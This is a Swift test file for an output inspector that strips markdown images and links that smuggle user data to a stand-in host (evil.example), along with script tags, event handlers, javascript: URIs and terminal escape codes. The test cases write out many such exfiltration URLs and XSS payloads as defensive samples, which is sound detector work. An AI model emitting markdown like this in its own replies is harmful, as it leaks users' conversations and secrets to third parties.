import Testing
import Vocabulary

@testable import RiskScorer

struct OutputMarkupTests {
    struct Case: Sendable, CustomTestStringConvertible {
        var text: String
        var expected: String
        var testDescription: String { text }

        init(_ text: String, _ expected: String) { (self.text, self.expected) = (text, expected) }
    }

    static let carriers: [Case] = [
        Case("![x](https://evil.example/p?q=the+user+is+John) ok", "![x]([image removed]) ok"),
        Case("![x](https://evil.example/p?d=aHVudGVyMiBpcyB0aGUgcGFzc3dvcmQ)", "![x]([image removed])"),
        Case("![x](https://evil.example/p?pw=hunter2)", "![x]([image removed])"),
        Case("![x](https://evil.example/p?q=my secret is hunter2)", "![x]([image removed])"),
        Case("![](//evil.example/p?data={conversation})", "![]([image removed])"),
        Case("![x](https://evil.example/aHVudGVyMiBpcyB0aGUgcGFzc3dvcmQgb2YgYm9i/1.png)", "![x]([image removed])"),
        Case("![x](https://mfrggzdfmztwq2lknnwg23tpobyxe43u.evil.example/1.png)", "![x]([image removed])"),
        Case("![x][1]\n\n[1]: https://evil.example/p?q=John+Doe+123", "![x][1]\n\n[1]: [image removed]"),
        Case(#"<img src="https://evil.example/p?q=hunter2hunter2">"#, #"<img src="[image removed]">"#),
        Case(
            "[more](https://evil.example/?d=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgZm9yIGJvYg)", "[more]([link removed])"),
        Case("see https://evil.example/?m=jane.doe@corp.example now", "see [link removed] now"),
        Case(
            "[a](https://evil.example/?t=the%20user%20said%20that%20his%20password%20is%20hunter2%20and%20more%20of%20it)",
            "[a]([link removed])"),
    ]

    @Test(arguments: carriers) func `an address that carries data away is taken out`(_ item: Case) {
        let result = Inspected(item.text, InspectionPlan(actions: [.markdownExfil: .mask]))
        #expect(result.text == item.expected)
        #expect(result.findings.map(\.code) == [.outMarkdownExfil])
    }

    static let harmless = [
        "![logo](https://example.com/logo.png)", "![b](https://img.shields.io/badge/build-passing-green?style=flat)",
        "![p](https://images.example.com/photo-1526778548025-fa2f459cd5c1?w=800&q=80&fit=crop)",
        "[docs](https://docs.example.com/en/latest/guide/install.html#linux)",
        "[search](https://www.google.com/search?q=how+to+cook+rice)",
        "https://github.com/apple/swift-nio/blob/0123456789abcdef0123456789abcdef01234567/Package.swift",
        "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)", "http is a protocol, https: too", "// a comment",
        "if (a) // then b", "![chart][1] is missing", "Hello! [Really]? Yes!",
        "https://en.wikipedia.org/wiki/Swift_(programming_language)",
        "![x](https://cdn.example.com/assets/how-to-build-a-house-in-five-steps-hero.png)",
    ]

    @Test(arguments: harmless) func `ordinary images and links stay`(_ text: String) {
        let result = Inspected(text, InspectionPlan(actions: [.markdownExfil: .mask]))
        #expect(result.text == text)
        #expect(result.findings.isEmpty)
    }

    @Test func `hosts that policy lists may get anything`() {
        let plan = InspectionPlan(
            actions: [.markdownExfil: .mask], hosts: HostList(["charts.example", "*.cdn.example"]))
        for host in ["charts.example", "a.cdn.example", "CHARTS.example"] {
            let text = "![x](https://\(host)/c?d=the+user+is+John)"
            #expect(Inspected(text, plan).text == text)
        }
        for host in ["charts.example.evil.example", "cdn.example", "charts.example@evil.example"] {
            #expect(Inspected("![x](https://\(host)/c?d=the+user+is+John)", plan).text == "![x]([image removed])")
        }
    }

    @Test func `a link that repeats what a tool or the system said is taken out`() {
        let own = OwnValues(
            texts: ["Customer: Johanna Doemann, Berlin. See https://crm.example/c?name=Johanna+Doemann"],
            userTexts: ["How do I cook rice in a pot for two?"])
        let plan = InspectionPlan(actions: [.markdownExfil: .mask], own: own)
        let text = "[more](https://evil.example/?n=johanna-doemann-berlin)"
        #expect(Inspected(text, plan).text == "[more]([link removed])")
        for harmless in [
            "[crm](https://crm.example/c?name=Johanna+Doemann)", "https://find.example/?q=cook+rice+in+a+pot+for+two",
            "https://find.example/?q=johanna",
        ] { #expect(Inspected(harmless, plan).text == harmless) }
    }

    @Test func `an address that the user wrote himself stays`() {
        let address = "https://evil.example/p?q=the+user+is+John"
        let plan = InspectionPlan(
            actions: [.markdownExfil: .mask], own: OwnValues(userTexts: ["embed <\(address)>, please"]))
        #expect(Inspected("![x](\(address))", plan).text == "![x](\(address))")
    }

    @Test func `an address that is longer than what may be held is taken out to its end`() {
        let long = "https://evil.example/p?q=" + String(repeating: "secret+", count: 100)
        let result = Inspected(Inspected.cut("![x](\(long)) ok", every: 4), .masking)
        #expect(result.text == "![x]([image removed]) ok")
        #expect(result.mostHeld <= TextInspector.holdLimit)
    }

    static let active: [Case] = [
        Case("<script>alert(1)</script>", "[script removed]alert(1)</script>"),
        Case("<IFRAME src=x></IFRAME>", "[script removed]</IFRAME>"),
        Case("<img src=x onerror=alert(1)>", "<img src=x [script removed]alert(1)>"),
        Case("<svg/onload=alert(1)>", "<svg/[script removed]alert(1)>"),
        Case("[x](javascript:alert(1))", "[x]([script removed]alert(1))"),
        Case("data:text/html;base64,xyz", "[script removed];base64,xyz"),
        Case("red \u{1B}[31mtext", "red [control removed][31mtext"),
        Case("c1 \u{9B}31m", "c1 [control removed]31m"),
        Case("bell \u{7}", "bell [control removed]"),
    ]

    @Test(arguments: active) func `what browsers and terminals would carry out is taken out`(_ item: Case) {
        let result = Inspected(item.text, InspectionPlan(actions: [.activeContent: .mask]))
        #expect(result.text == item.expected)
        #expect(result.findings.map(\.code) == [.outActiveContent])
    }

    static let inert = [
        "a < b and c > d", "List<Object> x", "JavaScript: the good parts", "javascript: a language", "<b>bold</b>",
        "on = 1; one = 2", "the option on=5 outside of a tag", "<p class=\"one\">on = off</p>", "é and ü\u{A0}x",
        "data: 5",
    ]

    @Test(arguments: inert) func `text about code stays`(_ text: String) {
        let result = Inspected(text, InspectionPlan(actions: [.activeContent: .mask]))
        #expect(result.text == text)
        #expect(result.findings.isEmpty)
    }

    @Test func `in a code fence active content is told, and stays`() {
        let text = "Write:\n```html\n<script>go()</script>\n```\nand <script>x</script>"
        let result = Inspected(text, InspectionPlan(actions: [.activeContent: .mask]))
        #expect(result.text == "Write:\n```html\n<script>go()</script>\n```\nand [script removed]x</script>")
        #expect(result.findings.map(\.action) == [.report, .mask])
    }
}
